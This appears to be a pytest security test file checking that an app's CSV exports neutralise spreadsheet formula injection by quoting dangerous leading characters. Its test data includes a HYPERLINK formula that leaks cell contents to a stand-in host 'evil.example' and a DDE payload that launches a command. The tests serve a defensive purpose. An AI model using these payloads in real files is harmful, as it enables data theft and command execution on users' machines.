"""CSV exports carry no spreadsheet formulas. A cell starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is prefixed with a single quote (OWASP's advice for CSV
injection), in the audit export and in a result table's download."""

from __future__ import annotations

import csv
import io

import pytest
from nicegui.testing import User

from app.text import csv_cell
from components.results.format import csv_bytes
from tests.security.conftest import bearer

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (FORMULA, "'" + FORMULA),  # the review's probe, as a username
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),  # DDE through a plus
        ("-2+3", "'-2+3"),  # a minus starts a formula too
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),  # an at sign
        ("\t=1+1", "'\t=1+1"),  # a leading tab
        ("\r=1+1", "'\r=1+1"),  # a leading carriage return
        ("alice", "alice"),  # plain text stays as it is
        ("a=b", "a=b"),  # an equals sign inside is harmless
        ("", ""),  # empty
        (-5, -5),  # a number is a number (only text is quoted)
        (1.5, 1.5),  # a float too
        (None, None),  # and no value
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_quoted(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


async def test_a_formula_username_reaches_the_audit_csv_as_text(user: User) -> None:
    refused = await user.http_client.post(
        "/api/auth/token", json={"username": FORMULA, "password": "wrong-password"}
    )
    assert refused.status_code == 401  # the failure is audited with the username as given
    response = await user.http_client.get("/api/audit.csv", headers=bearer("root", "admin"))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    users = [r["user"] for r in rows if r["kind"] == "login"]
    assert users == ["'" + FORMULA]
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())


def test_a_result_table_download_quotes_formulas_but_keeps_numbers() -> None:
    data = csv_bytes(["name", "=total"], [[FORMULA, -3], ["ok", 2.5]]).decode()
    assert list(csv.reader(io.StringIO(data))) == [
        ["name", "'=total"],
        ["'" + FORMULA, "-3"],
        ["ok", "2.5"],
    ]
